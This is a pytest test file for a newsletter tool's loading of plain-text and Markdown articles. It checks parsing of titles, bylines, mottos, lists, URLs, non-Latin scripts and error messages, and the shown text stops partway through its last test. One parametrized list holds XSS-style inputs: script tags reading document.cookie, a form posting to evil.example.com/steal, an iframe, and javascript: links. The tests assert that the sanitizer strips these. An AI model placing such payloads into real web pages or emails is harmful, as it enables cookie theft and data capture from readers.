"""Article loading: plain text and Markdown into one Article model (issue 2, "Articles").

Every test writes a real file into tmp_path and reads it back through
``dispatch.content.article.load_article``; the renderer is also exercised directly through
``dispatch.content.markup.render_markdown``.
"""

from __future__ import annotations

import html
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from dispatch.content.article import Article, load_article
from dispatch.content.markup import render_markdown
from dispatch.errors import ExitCode, InputError

WriteFile = Callable[..., Path]

SEED_TITLE = "As elections approach, the US walk a thin line in Iraq"
SEED_MOTTO = "The spirit of our endeavour is, To strive, to seek, to find and not to yield"
SEED_ATTRIBUTION = "Alessandro Minuto-Rizzo, President"

TITLE = "A Quiet Harbour"
P1 = (
    "In a small town on the coast, the fishing fleet returned early this year because the "
    "storms came sooner than anyone expected."
)
P2 = (
    "The council met on Tuesday evening and agreed to open a relief fund for the families of "
    "the crews most affected by the early closure."
)
P3 = (
    "Local shops report that sales have fallen by a fifth since the spring, and several crews "
    "are already looking for other work along the coast."
)
MAX_COLUMNS = 78


def columns(line: str) -> int:
    """Display width of a line: East Asian wide and full-width characters take two columns."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line)


def assert_wrapped(text: str) -> None:
    """Every line fits in MAX_COLUMNS, except a line that holds a URL too long to fit anyway."""
    for line in text.split("\n"):
        if columns(line) <= MAX_COLUMNS:
            continue
        words = line.split()
        long_urls = [w for w in words if w.startswith(("http://", "https://")) and len(w) > 40]
        rest = " ".join(w for w in words if w not in long_urls)
        assert long_urls, f"line too wide: {line!r}"
        assert columns(rest) <= MAX_COLUMNS, f"line too wide beside its URL: {line!r}"


def load(write_file: WriteFile, name: str, content: str | bytes) -> Article:
    return load_article(write_file(name, content))


def raises_input_error(path: Path) -> str:
    with pytest.raises(InputError) as caught:
        load_article(path)
    message = str(caught.value)
    assert str(path) in message, f"the message does not name the file: {message!r}"
    assert "\n" not in message, "errors are one line"
    assert caught.value.exit_code == ExitCode.BAD_INPUT
    return message


# --- the seed example -----------------------------------------------------------------------


@pytest.fixture
def seed(article: Path) -> Article:
    return load_article(article)


def seed_paragraphs(article: Path) -> list[str]:
    """The six body paragraphs as they stand in the source (lines 7 to 12)."""
    lines = article.read_text(encoding="utf-8").split("\n")
    return [line.strip() for line in lines[6:12]]


def test_seed_title_is_exact(seed: Article) -> None:
    assert seed.title == SEED_TITLE


def test_seed_motto_and_attribution(seed: Article) -> None:
    assert seed.motto == SEED_MOTTO
    assert seed.motto_attribution == SEED_ATTRIBUTION


def test_seed_header_is_not_in_the_body(seed: Article) -> None:
    for header in (SEED_TITLE, SEED_MOTTO, SEED_ATTRIBUTION):
        assert header not in seed.body_text
        assert html.escape(header, quote=False) not in seed.body_html
    assert seed.author == ""
    assert seed.subtitle == ""


def test_seed_has_all_six_paragraphs_in_order_and_intact(seed: Article, article: Path) -> None:
    expected = seed_paragraphs(article)
    assert len(expected) == 6
    assert all(len(p) > 200 for p in expected)
    assert seed.paragraphs == expected
    assert [b.kind for b in seed.blocks] == ["paragraph"] * 6


def test_seed_paragraphs_reach_the_html_as_p_elements(seed: Article, article: Path) -> None:
    html_body = seed.body_html
    positions = [html_body.index(f"<p>{html.escape(p, quote=False)}</p>") for p in seed_paragraphs(article)]
    assert positions == sorted(positions)
    assert html_body.count("<p>") == 6


def test_seed_paragraphs_reach_the_text_twin_in_order(seed: Article, article: Path) -> None:
    chunks = seed.body_text.split("\n\n")
    assert [" ".join(c.split()) for c in chunks] == seed_paragraphs(article)


@pytest.mark.parametrize("mark", ["‘forever wars’", "Washington’s", "ISIS’ resilience"])
def test_seed_typographic_quotes_survive(seed: Article, mark: str) -> None:
    assert mark in seed.body_html
    assert mark in " ".join(seed.body_text.split())
    assert "&#8217;" not in seed.body_html
    assert "&rsquo;" not in seed.body_html


def test_seed_motto_keeps_its_typographic_quotes_out_of_the_value(seed: Article) -> None:
    assert not seed.motto.startswith(("“", '"'))
    assert not seed.motto.endswith(("”", '"'))


@pytest.mark.parametrize("leftover", ["Share on", "Subscribe to our newsletter", "Subscribe", "newsletter"])
def test_seed_web_page_leftovers_are_dropped(seed: Article, leftover: str) -> None:
    assert leftover not in seed.body_html
    assert leftover not in seed.body_text
    assert all(leftover not in p for p in seed.paragraphs)


def test_seed_text_twin_is_wrapped(seed: Article) -> None:
    assert_wrapped(seed.body_text)
    assert "\n" in seed.body_text.split("\n\n")[0], "a 200+ character paragraph is wrapped"


def test_seed_fingerprint_is_stable_and_content_based(article: Path, write_file: WriteFile) -> None:
    first, second = load_article(article), load_article(article)
    assert first.fingerprint == second.fingerprint
    changed = write_file("changed.txt", article.read_text(encoding="utf-8").replace("2021", "2022"))
    assert load_article(changed).fingerprint != first.fingerprint


# --- other plain-text shapes -----------------------------------------------------------------


def test_plain_text_without_motto(write_file: WriteFile) -> None:
    a = load(write_file, "plain.txt", f"{TITLE}\n\n{P1}\n\n{P2}\n")
    assert (a.title, a.motto, a.motto_attribution) == (TITLE, "", "")
    assert a.paragraphs == [P1, P2]


@pytest.mark.parametrize(
    "motto_line",
    [
        "“Fortune favours the bold.” — Virgil",
        "“Fortune favours the bold.” – Virgil",
        '"Fortune favours the bold." - Virgil',
        "“Fortune favours the bold.”—Virgil",
    ],
)
def test_motto_with_attribution_on_the_same_line(write_file: WriteFile, motto_line: str) -> None:
    a = load(write_file, "motto.txt", f"{motto_line}\n\n{TITLE}\n\n{P1}\n")
    assert a.motto == "Fortune favours the bold."
    assert a.motto_attribution == "Virgil"
    assert a.title == TITLE
    assert a.paragraphs == [P1]


@pytest.mark.parametrize("attribution", ["Virgil", "— Virgil", "- Virgil"])
def test_motto_with_attribution_on_its_own_line(write_file: WriteFile, attribution: str) -> None:
    a = load(write_file, "motto.txt", f"“Fortune favours the bold.”\n\n{attribution}\n\n{TITLE}\n\n{P1}\n")
    assert (a.motto, a.motto_attribution, a.title) == ("Fortune favours the bold.", "Virgil", TITLE)
    assert a.paragraphs == [P1]


def test_motto_without_attribution(write_file: WriteFile) -> None:
    a = load(write_file, "motto.txt", f"“Fortune favours the bold.”\n\n{TITLE}\n\n{P1}\n\n{P2}\n")
    assert (a.motto, a.motto_attribution, a.title) == ("Fortune favours the bold.", "", TITLE)
    assert a.paragraphs == [P1, P2]


def test_motto_without_attribution_then_title_and_byline(write_file: WriteFile) -> None:
    a = load(write_file, "motto.txt", f"“Fortune favours the bold.”\n\n{TITLE}\n\nBy Jane Doe\n\n{P1}\n")
    assert a.motto == "Fortune favours the bold."
    assert a.title == TITLE
    assert a.author == "Jane Doe"
    assert a.motto_attribution == ""


@pytest.mark.parametrize(
    ("header", "date"),
    [
        ("By Jane Doe\n12 March 2024", "12 March 2024"),
        ("By Jane Doe\n\nMarch 12, 2024", "March 12, 2024"),
        ("By Jane Doe\n2024-03-12", "2024-03-12"),
        ("By Jane Doe, 12 March 2024", "12 March 2024"),
        ("By Jane Doe | 2024-03-12", "2024-03-12"),
        ("Written by Jane Doe\n12/03/2024", "12/03/2024"),
    ],
)
def test_byline_and_date_line(write_file: WriteFile, header: str, date: str) -> None:
    a = load(write_file, "byline.txt", f"{TITLE}\n{header}\n\n{P1}\n\n{P2}\n")
    assert a.title == TITLE
    assert a.author == "Jane Doe"
    assert a.date == date
    assert a.paragraphs == [P1, P2]
    assert "Jane Doe" not in a.body_text
    assert date not in a.body_text


def test_standfirst_before_byline_is_the_subtitle(write_file: WriteFile) -> None:
    standfirst = "Storms cut the season short and the town is counting the cost"
    a = load(write_file, "standfirst.txt", f"{TITLE}\n\n{standfirst}\n\nBy Jane Doe\n\n{P1}\n")
    assert (a.title, a.subtitle, a.author) == (TITLE, standfirst, "Jane Doe")
    assert a.paragraphs == [P1]


@pytest.mark.parametrize(
    ("source", "date"),
    [
        (f"{TITLE}\n\nPublished 2024-03-12\n\n{P1}\n\n{P2}\n", "2024-03-12"),
        (f"{TITLE}\nBy Jane Doe\nUpdated: 12 March 2024\n\n{P1}\n\n{P2}\n", "12 March 2024"),
        (f"{TITLE}\nPublished 2024-03-12\n{P1}\n", "2024-03-12"),
    ],
    ids=["published-own-paragraph", "updated-after-byline", "published-glued"],
)
def test_date_line_with_a_label(write_file: WriteFile, source: str, date: str) -> None:
    a = load(write_file, "dated.txt", source)
    assert a.date == date
    assert a.paragraphs[0] == P1
    assert date not in a.body_text


HARD_WRAPPED = """\
The harbour master, who has watched the boats come in for thirty
years, said the season had been the shortest he could remember and
that several crews were already looking for other work.

Local shops report that sales have fallen by a fifth since the spring,
and the council is considering a relief fund for the families most
affected by the early closure.
"""


def test_hard_wrapped_paragraphs_are_joined(write_file: WriteFile) -> None:
    a = load(write_file, "wrapped.txt", f"{TITLE}\n\n{HARD_WRAPPED}")
    expected = [" ".join(block.split()) for block in HARD_WRAPPED.split("\n\n")]
    assert a.paragraphs == expected
    assert a.body_html.count("<p>") == 2
    for paragraph in expected:
        assert f"<p>{paragraph}</p>" in a.body_html


def test_hard_wrapped_paragraph_ending_in_a_quote_is_joined(write_file: WriteFile) -> None:
    wrapped = (
        "The harbour master, who has watched the boats come in for thirty\n"
        "years, said the season had been the shortest he could remember. “We\n"
        "have never seen anything like it,” he told us, “not in my lifetime.”\n"
    )
    a = load(write_file, "wrapped.txt", f"{TITLE}\n\n{wrapped}\n{P2}\n")
    assert a.paragraphs == [" ".join(wrapped.split()), P2]


def test_one_paragraph_per_line(write_file: WriteFile) -> None:
    a = load(write_file, "lines.txt", f"{TITLE}\n{P1}\n{P2}\n{P3}\n")
    assert a.title == TITLE
    assert a.paragraphs == [P1, P2, P3]


def test_one_short_paragraph_per_line(write_file: WriteFile) -> None:
    lines = [
        "The fleet came home early this year.",
        "Shops say sales fell by a fifth since the spring.",
        "The council will meet again on Monday to discuss a fund.",
    ]
    a = load(write_file, "lines.txt", TITLE + "\n" + "\n".join(lines) + "\n")
    assert a.paragraphs == lines


def test_verse_lines_stay_separate(write_file: WriteFile) -> None:
    verse = "The sea is calm tonight\nThe tide is full, the moon lies fair\nUpon the straits"
    a = load(write_file, "verse.txt", f"{TITLE}\n\n{P1}\n\n{verse}\n\n{P2}\n")
    assert a.paragraphs[0] == P1
    assert a.paragraphs[-1] == P2
    text_lines = [line.strip() for line in a.body_text.split("\n")]
    assert all(line in text_lines for line in verse.split("\n")), "each verse line stays a line"


def test_crlf_line_endings(write_file: WriteFile) -> None:
    source = f"“Fortune favours the bold.”\n\nVirgil\n\n{TITLE}\n\n{HARD_WRAPPED}\n{P2}\n"
    a = load(write_file, "crlf.txt", source.replace("\n", "\r\n").encode("utf-8"))
    lf = load(write_file, "lf.txt", source)
    assert (a.title, a.motto, a.motto_attribution) == (TITLE, "Fortune favours the bold.", "Virgil")
    assert a.paragraphs == lf.paragraphs
    assert len(a.paragraphs) == 3
    assert "\r" not in a.body_html
    assert "\r" not in a.body_text


def test_old_mac_cr_line_endings(write_file: WriteFile) -> None:
    a = load(write_file, "cr.txt", f"{TITLE}\r\r{P1}\r\r{P2}\r".encode())
    assert (a.title, a.paragraphs) == (TITLE, [P1, P2])


@pytest.mark.parametrize("name", ["bom.txt", "bom.md"])
def test_utf8_bom_is_not_part_of_the_title(write_file: WriteFile, name: str) -> None:
    content = f"{TITLE}\n\n{P1}\n" if name.endswith(".txt") else f"---\ntitle: {TITLE}\n---\n{P1}\n"
    a = load(write_file, name, "\ufeff".encode() + content.encode("utf-8"))
    assert a.title == TITLE
    assert "\ufeff" not in a.body_html + a.body_text
    assert a.paragraphs == [P1]


NON_LATIN = {
    "cyrillic": (
        "Голос гавани",
        "Местные рыбаки вернулись раньше обычного, потому что шторма пришли в этом году слишком рано.",
    ),
    "arabic": (
        "صوت الميناء",
        "عاد الصيادون المحليون في وقت أبكر من المعتاد لأن العواصف جاءت مبكرا هذا العام.",
    ),
    "cjk": ("港の声", "漁師たちは今年、嵐が早く来たため、いつもより早く港に戻った。"),
    "greek": ("Η φωνή του λιμανιού", "Οι ψαράδες γύρισαν νωρίτερα φέτος επειδή οι καταιγίδες ήρθαν νωρίς."),
}


@pytest.mark.parametrize("script", sorted(NON_LATIN))
def test_non_latin_scripts_survive(write_file: WriteFile, script: str) -> None:
    title, paragraph = NON_LATIN[script]
    a = load(write_file, f"{script}.txt", f"{title}\n\n{paragraph}\n\n{P1}\n")
    assert a.title == title
    assert a.paragraphs == [paragraph, P1]
    assert f"<p>{paragraph}</p>" in a.body_html
    assert paragraph in " ".join(a.body_text.split())


def test_all_scripts_in_one_article(write_file: WriteFile) -> None:
    paragraphs = [p for _, p in NON_LATIN.values()]
    a = load(write_file, "mixed.txt", TITLE + "\n\n" + "\n\n".join(paragraphs) + "\n")
    assert a.paragraphs == paragraphs


def test_long_cjk_paragraph_is_wrapped_in_the_text_twin(write_file: WriteFile) -> None:
    paragraph = NON_LATIN["cjk"][1] * 6
    a = load(write_file, "cjk.txt", f"港の声\n\n{paragraph}\n")
    assert a.paragraphs == [paragraph]
    assert_wrapped(a.body_text)


@pytest.mark.parametrize(
    ("lines", "tag"),
    [
        (["- a relief fund", "- free training", "- a new market hall"], "ul"),
        (["* a relief fund", "* free training", "* a new market hall"], "ul"),
        (["• a relief fund", "• free training", "• a new market hall"], "ul"),
        pytest.param(["1. a relief fund", "2. free training", "3. a new market hall"], "ol"),
        pytest.param(["1) a relief fund", "2) free training", "3) a new market hall"], "ol"),
    ],
)
def test_bullet_lists(write_file: WriteFile, lines: list[str], tag: str) -> None:
    source = f"{TITLE}\n\n{P1}\n\nWhat the council proposes:\n\n" + "\n".join(lines) + f"\n\n{P2}\n"
    a = load(write_file, "list.txt", source)
    expected = ["a relief fund", "free training", "a new market hall"]
    assert [b.text for b in a.blocks if b.kind == "list"] == expected
    assert a.paragraphs == [P1, "What the council proposes:", P2]
    assert f"<{tag}>" in a.body_html
    assert all(f"<li>{item}</li>" in a.body_html for item in expected)
    marker = "- " if tag == "ul" else "1. "
    assert f"{marker}a relief fund" in a.body_text.split("\n")


def test_numbered_list_keeps_its_numbers(write_file: WriteFile) -> None:
    source = f"{TITLE}\n\n{P1}\n\n1. a relief fund\n2. free training\n3. a new market hall\n\nThat is all.\n"
    a = load(write_file, "list.txt", source)
    assert [b.text for b in a.blocks if b.kind == "list"] == [
        "a relief fund",
        "free training",
        "a new market hall",
    ]
    assert "<ol>\n<li>a relief fund</li>" in a.body_html
    assert "\n1. a relief fund\n2. free training\n3. a new market hall\n" in a.body_text


def test_bullet_item_continued_on_the_next_line(write_file: WriteFile) -> None:
    source = (
        f"{TITLE}\n\n{P1}\n\n- a relief fund for the families\n  most affected this year\n- free training\n"
    )
    a = load(write_file, "list.txt", source)
    assert [b.text for b in a.blocks if b.kind == "list"] == [
        "a relief fund for the families most affected this year",
        "free training",
    ]


URL_CASES = [
    ("Read the report at https://example.org/report?id=5&x=1.", "https://example.org/report?id=5&x=1"),
    ("The map (see https://example.com/map) is online.", "https://example.com/map"),
    ("Old page: http://example.org/a_b_c/*star*, still up.", "http://example.org/a_b_c/*star*"),
    ("Quoted “https://example.org/quoted” link.", "https://example.org/quoted"),
]


@pytest.mark.parametrize(("sentence", "url"), URL_CASES)
def test_bare_urls_become_links(write_file: WriteFile, sentence: str, url: str) -> None:
    a = load(write_file, "urls.txt", f"{TITLE}\n\n{P1} {sentence}\n")
    escaped = html.escape(url)
    assert f'<a href="{escaped}">{html.escape(url, quote=False)}</a>' in a.body_html
    assert any(url in word for word in a.body_text.split()), "the URL is shown whole in the text twin"
    assert a.paragraphs == [f"{P1} {sentence}"]


def test_bare_url_is_shown_whole_in_the_text_twin(write_file: WriteFile) -> None:
    url = "https://example.org/" + "/".join(["a-rather-long-path-segment"] * 4) + "?utm_source=x"
    a = load(write_file, "urls.txt", f"{TITLE}\n\n{P1} Full story: {url} today.\n")
    assert url in a.body_text.split(), "the URL is one unbroken word in the text twin"
    assert_wrapped(a.body_text)


LITERALS = [
    "*stars*",
    "<b>bold</b>",
    "5.200",
    "_under_",
    "`code`",
    "AT&T",
    "&amp; as typed",
    "\\backslash",
    "~~strike~~",
    "<!-- a comment -->",
    "[brackets](not a link)",
    "| a | b |",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("literal", LITERALS)
def test_markdown_and_html_characters_appear_literally_inside_a_paragraph(
    write_file: WriteFile, literal: str
) -> None:
    paragraph = f"The notes say {literal} and the troops fell from 5.200 to 2.500 this year."
    a = load(write_file, "literal.txt", f"{TITLE}\n\n{paragraph}\n\n{P1}\n")
    assert a.paragraphs == [paragraph, P1]
    assert f"<p>{html.escape(paragraph, quote=False)}</p>" in a.body_html
    assert paragraph in " ".join(a.body_text.split())


@pytest.mark.parametrize(
    "line",
    [
        "+ a plus sign starts this line and it is not a list.",
        "*** three stars are not a rule ***.",
        "<div>a tag at the start of a line</div> is text.",
        "1984. That was the year the harbour closed for the first time.",
        "#hashtag at the start of a line is not a heading either.",
    ],
)
def test_markdown_characters_at_the_start_of_a_line_appear_literally(
    write_file: WriteFile, line: str
) -> None:
    a = load(write_file, "literal.txt", f"{TITLE}\n\n{P1}\n\n{line}\n\n{P2}\n")
    assert line in a.paragraphs
    assert html.escape(line, quote=False) in a.body_html
    assert line in a.body_text


def test_hash_at_the_start_of_a_plain_text_line_is_not_a_heading(write_file: WriteFile) -> None:
    line = "# not a heading, just a hash the writer typed at the start of a line."
    a = load(write_file, "literal.txt", f"{TITLE}\n\n{P1}\n\n{line}\n\n{P2}\n")
    assert "<h1>" not in a.body_html
    assert html.escape(line, quote=False) in a.body_html
    assert line in a.body_text


def test_typographic_punctuation_survives(write_file: WriteFile) -> None:
    paragraph = "“Double”, ‘single’, «guillemets», an em — dash, an en – dash, and an ellipsis… too."
    a = load(write_file, "typo.txt", f"{TITLE}\n\n{paragraph}\n")
    assert a.paragraphs == [paragraph]
    assert f"<p>{paragraph}</p>" in a.body_html
    assert " ".join(a.body_text.split()) == paragraph


TRAILING_LEFTOVERS = [
    "Share this",
    "Share on",
    "Share on\nFacebook\nTwitter",
    "Share on\n\nFacebook\n\nTwitter\n\nLinkedIn",
    "Follow us",
    "Follow us on Twitter",
    "Subscribe to our newsletter",
    "Sign up for our newsletter",
    "Share this article:",
    "Share on\n\n\nSubscribe to our newsletter",
    "Share this\nFollow us\nSubscribe to our newsletter",
    "Tags: harbour, fishing",
    "Read more",
]


@pytest.mark.parametrize("leftover", TRAILING_LEFTOVERS)
def test_trailing_leftovers_are_dropped(write_file: WriteFile, leftover: str) -> None:
    a = load(write_file, "leftover.txt", f"{TITLE}\n\n{P1}\n\n{P2}\n\n{leftover}\n\n")
    assert a.paragraphs == [P1, P2]
    assert [b.kind for b in a.blocks] == ["paragraph", "paragraph"]
    for word in leftover.split("\n"):
        if word.strip():
            assert word.strip() not in a.body_html
            assert word.strip() not in a.body_text


@pytest.mark.parametrize(
    "sentence",
    [
        "Readers who want more can subscribe to our newsletter at the harbour office.",
        "Share this story with anyone who remembers the old fleet, the editor asked.",
        "Follow us on the coast road to the new market hall, the mayor said.",
        "Subscribe to our newsletter, said the sign on the door, and many did.",
    ],
)
def test_leftover_words_inside_a_paragraph_are_kept(write_file: WriteFile, sentence: str) -> None:
    a = load(
        write_file, "kept.txt", f"{TITLE}\n\n{P1}\n\n{sentence}\n\nShare on\n\nSubscribe to our newsletter\n"
    )
    assert a.paragraphs == [P1, sentence]
    assert html.escape(sentence, quote=False) in a.body_html


def test_share_widget_line_in_the_middle_is_dropped(write_file: WriteFile) -> None:
    """A lone "Share this" between paragraphs is a share widget's label, not the author's text."""
    a = load(write_file, "middle.txt", f"{TITLE}\n\n{P1}\n\nShare this\n\n{P2}\n")
    assert a.paragraphs == [P1, P2]
    assert "Share this" not in a.body_text


@pytest.mark.parametrize("suffix", [".txt", ".text", ".TXT", ".Text"])
def test_plain_text_suffixes(write_file: WriteFile, suffix: str) -> None:
    a = load(write_file, f"article{suffix}", f"{TITLE}\n\n{P1}\n")
    assert (a.title, a.paragraphs) == (TITLE, [P1])


def test_title_keeps_its_typography(write_file: WriteFile) -> None:
    title = "Après la tempête — the town’s “quiet” harbour"
    a = load(write_file, "title.txt", f"{title}\n\n{P1}\n")
    assert a.title == title


# --- Markdown ---------------------------------------------------------------------------------

FRONT_MATTER = """\
---
title: "Harbour news: spring"
subject: The spring issue
preheader: What changed at the harbour this spring
author: Jane Doe
date: 2024-03-12
subtitle: Storms, shops and a relief fund
region: North Coast
tags: [fishing, council]
issue_number: 12
---
"""


def test_markdown_front_matter_keys(write_file: WriteFile) -> None:
    a = load(write_file, "issue.md", FRONT_MATTER + f"{P1}\n")
    assert a.title == "Harbour news: spring"
    assert a.subject == "The spring issue"
    assert a.preheader == "What changed at the harbour this spring"
    assert a.author == "Jane Doe"
    assert a.date == "2024-03-12"
    assert a.subtitle == "Storms, shops and a relief fund"
    assert a.paragraphs == [P1]


def test_markdown_extra_front_matter_keys_go_to_meta(write_file: WriteFile) -> None:
    a = load(write_file, "issue.md", FRONT_MATTER + f"{P1}\n")
    assert a.meta == {"region": "North Coast", "tags": ["fishing", "council"], "issue_number": 12}


def test_markdown_front_matter_is_not_in_the_body(write_file: WriteFile) -> None:
    a = load(write_file, "issue.md", FRONT_MATTER + f"{P1}\n")
    for value in ("The spring issue", "North Coast", "region:", "---"):
        assert value not in a.body_html
        assert value not in a.body_text


@pytest.mark.parametrize("suffix", [".md", ".markdown", ".MD"])
def test_markdown_title_from_first_h1(write_file: WriteFile, suffix: str) -> None:
    a = load(write_file, f"issue{suffix}", f"\n# {TITLE}\n\n{P1}\n\n## Next steps\n\n{P2}\n")
    assert a.title == TITLE
    assert "<h1>" not in a.body_html, "the title H1 is taken out of the body"
    assert TITLE not in a.body_text
    assert a.paragraphs == [P1, P2]
    assert "<h2>Next steps</h2>" in a.body_html


def test_markdown_title_from_h1_after_front_matter_without_title(write_file: WriteFile) -> None:
    a = load(write_file, "issue.md", f"---\nsubject: Spring\nregion: North\n---\n# {TITLE}\n\n{P1}\n")
    assert (a.title, a.subject, a.meta) == (TITLE, "Spring", {"region": "North"})
    assert a.paragraphs == [P1]


def test_markdown_front_matter_title_wins_over_h1(write_file: WriteFile) -> None:
    a = load(write_file, "issue.md", f"---\ntitle: From front matter\n---\n# A body heading\n\n{P1}\n")
    assert a.title == "From front matter"
    assert "<h1>A body heading</h1>" in a.body_html


MARKDOWN_BODY = f"""\
---
title: {TITLE}
---
{P1} See the [full report](https://example.org/report) and **bold** words.

## What happens next

- a relief fund
- free training with [details](https://example.com/training)

1. first step
2. second step

> A quoted line from the harbour master.

![The fleet at anchor](https://example.org/fleet.jpg)

{P2} The [full report](https://example.org/report) again.
"""


@pytest.fixture
def rich(write_file: WriteFile) -> Article:
    return load(write_file, "rich.md", MARKDOWN_BODY)


@pytest.mark.parametrize(
    "fragment",
    [
        '<a href="https://example.org/report">full report</a>',
        "<strong>bold</strong>",
        "<h2>What happens next</h2>",
        "<ul>\n<li>a relief fund</li>",
        '<a href="https://example.com/training">details</a>',
        "<ol>\n<li>first step</li>\n<li>second step</li>\n</ol>",
        "<blockquote>\n<p>A quoted line from the harbour master.</p>\n</blockquote>",
        '<img src="https://example.org/fleet.jpg" alt="The fleet at anchor">',
    ],
)
def test_markdown_structures_reach_the_html(rich: Article, fragment: str) -> None:
    assert fragment in rich.body_html


def test_markdown_blocks_in_order(rich: Article) -> None:
    kinds = [b.kind for b in rich.blocks]
    assert kinds[:2] == ["paragraph", "heading"]
    assert kinds.count("list") == 4
    assert "quote" in kinds
    assert kinds[-1] == "paragraph"


def test_markdown_image_is_an_image_block_not_a_paragraph(rich: Article, write_file: WriteFile) -> None:
    assert "image" in [b.kind for b in rich.blocks]
    assert all("[" not in p for p in rich.paragraphs)
    lead_image = load(
        write_file, "img.md", f"---\ntitle: T\n---\n![A boat](https://example.org/b.jpg)\n\n{P1}\n"
    )
    assert lead_image.summary.startswith(P1[:40])


def test_markdown_links_are_numbered_and_listed_once(rich: Article) -> None:
    assert rich.links == (
        "https://example.org/report",
        "https://example.com/training",
        "https://example.org/fleet.jpg",
    )
    text = " ".join(rich.body_text.split())
    assert text.count("full report [1]") == 2
    assert "details [2]" in text
    assert "[The fleet at anchor] [3]" in text


def test_markdown_text_twin_reads_as_text(rich: Article) -> None:
    text = rich.body_text
    assert "What happens next\n-----------------" in text  # "=" is kept for the title
    assert "\n- a relief fund\n" in text
    assert "\n1. first step\n2. second step\n" in text
    assert "> A quoted line from the harbour master." in text
    for markup in ("**", "](", "<a", "<p>", "##"):
        assert markup not in text
    assert_wrapped(text)


def test_markdown_text_twin_wraps_long_paragraphs_but_not_urls(write_file: WriteFile) -> None:
    url = "https://example.org/" + "/".join(["a-long-path-segment"] * 5)
    body = " ".join([P1, P2, P3]) + f" The archive is at {url} for everyone."
    a = load(write_file, "wrap.md", f"---\ntitle: {TITLE}\n---\n{body}\n")
    assert_wrapped(a.body_text)
    assert len(a.body_text.split("\n")) >= 5
    assert any(url in line.split() for line in a.body_text.split("\n")), "the URL is never broken"
    assert " ".join(a.body_text.split()) == body


def test_markdown_typography_and_scripts_survive(write_file: WriteFile) -> None:
    paragraph = "“Quoted” — ‘single’ … " + " ".join(p for _, p in NON_LATIN.values())
    a = load(write_file, "scripts.md", f"---\ntitle: Голос гавани — 港の声\n---\n{paragraph}\n")
    assert a.title == "Голос гавани — 港の声"
    assert a.paragraphs == [paragraph]
    assert paragraph in a.body_html


ACTIVE_CONTENT = [
    ('<script>alert("pwned")</script>', ["<script", "pwned"]),
    ("<script>\nvar stolen = document.cookie;\n</script>", ["<script", "stolen", "document.cookie"]),
    (
        '<iframe src="https://evil.example.com/x">iframe words</iframe>',
        ["<iframe", "evil.example.com", "iframe words"],
    ),
    (
        '<form action="https://evil.example.com/steal"><input name="q">form words</form>',
        ["<form", "<input", "evil.example.com", "form words"],
    ),
    ('<p onclick="steal()">Click me now.</p>', ["onclick", "steal()"]),
    ('<a href="javascript:alert(1)">here</a> is a link.', ["javascript:", "alert(1)"]),
    ("[click](javascript:alert(1)) is a Markdown link.", ['href="javascript:', "<a"]),
    ('<img src="x.png" onerror="alert(1)"> after.', ["onerror", "alert(1)"]),
    ("Inline <script>inlinesecret()</script> script in a paragraph.", ["<script", "inlinesecret"]),
    ("<style>body{display:none}</style>", ["<style", "display:none"]),
    ('<object data="evil.swf">object words</object>', ["<object", "evil.swf", "object words"]),
]


@pytest.mark.parametrize(("snippet", "forbidden"), ACTIVE_CONTENT)
def test_active_content_never_reaches_the_email(
    write_file: WriteFile, snippet: str, forbidden: list[str]
) -> None:
    a = load(write_file, "active.md", f"---\ntitle: {TITLE}\n---\n{P1}\n\n{snippet}\n\n{P2}\n")
    for bad in forbidden:
        assert bad not in a.body_html, f"{bad!r} in html"
        assert bad not in a.body_text, f"{bad!r} in text"
        assert all(bad not in b.text for b in a.blocks)
    assert P1 in a.body_html
    assert P2 in a.body_html
    assert P2 in " ".join(a.body_text.split())


def test_safe_raw_html_is_kept(write_file: WriteFile) -> None:
    a = load(write_file, "raw.md", f"---\ntitle: {TITLE}\n---\n<p>Some <em>safe</em> markup.</p>\n")
    assert "<p>Some <em>safe</em> markup.</p>" in a.body_html
    assert "Some safe markup." in a.body_text


# --- render_markdown directly --------------------------------------------------------------------


def test_render_markdown_html_and_text_carry_the_same_content() -> None:
    rendered = render_markdown("# Heading\n\nA [link](https://example.org/x) and *emphasis*.\n")
    assert "<h1>Heading</h1>" in rendered.html
    assert '<a href="https://example.org/x">link</a>' in rendered.html
    assert "<em>emphasis</em>" in rendered.html
    assert rendered.text == "Heading\n-------\n\nA link [1] and emphasis."
    assert rendered.links == ("https://example.org/x",)


def test_render_markdown_mailto_links_are_listed() -> None:
    rendered = render_markdown("Write to [the editors](mailto:editors@example.org).\n")
    assert rendered.links == ("mailto:editors@example.org",)
    assert "the editors [1]" in rendered.text


def test_render_markdown_autolink_is_not_listed_twice() -> None:
    rendered = render_markdown("See <https://example.org/page> now.\n")
    assert '<a href="https://example.org/page">' in rendered.html
    assert rendered.text == "See https://example.org/page now."


def test_render_markdown_escapes_text_special_characters() -> None:
    rendered = render_markdown("Fish \\& chips \\<b\\> 5.200 AT&T\n")
    assert "&lt;b&gt;" in rendered.html
    assert "AT&amp;T" in rendered.html
    assert rendered.text == "Fish & chips <b> 5.200 AT&T"


def test_render_markdown_code_and_rule() -> None:
    rendered = render_markdown("Before.\n\n```\nx = 1  # keep\n```\n\n---\n\nAfter.\n")
    assert "<pre><code>x = 1  # keep\n</code></pre>" in rendered.html
    assert "<hr>" in rendered.html
    assert "    x = 1  # keep" in rendered.text
    assert [b.kind for b in rendered.blocks] == ["paragraph", "code", "rule", "paragraph"]


def test_render_markdown_nested_quote_and_list_wrap_with_prefixes() -> None:
    long = " ".join([P1, P2])
    rendered = render_markdown(f"> {long}\n\n- {long}\n")
    quote_lines = list(rendered.text.split("\n\n")[0].split("\n"))
    assert len(quote_lines) > 1
    assert all(line.startswith("> ") for line in quote_lines)
    item_lines = rendered.text.split("\n\n")[1].split("\n")
    assert item_lines[0].startswith("- ")
    assert all(line.startswith("  ") for line in item_lines[1:])
    assert_wrapped(rendered.text)


# --- errors ---------------------------------------------------------------------------------------


def test_missing_file(tmp_path: Path) -> None:
    message = raises_input_error(tmp_path / "nowhere.txt")
    assert "no such" in message


@pytest.mark.parametrize(
    "content",
    [b"", b"\n", b"   \n\n\t\n", b"\r\n\r\n", "\ufeff".encode(), "\ufeff\n  \n".encode()],
    ids=["empty", "newline", "whitespace", "crlf-blank", "bom-only", "bom-whitespace"],
)
def test_empty_or_blank_file(write_file: WriteFile, content: bytes) -> None:
    message = raises_input_error(write_file("empty.txt", content))
    assert "empty" in message


@pytest.mark.parametrize("name", ["empty.md", "empty.markdown"])
def test_empty_markdown_file(write_file: WriteFile, name: str) -> None:
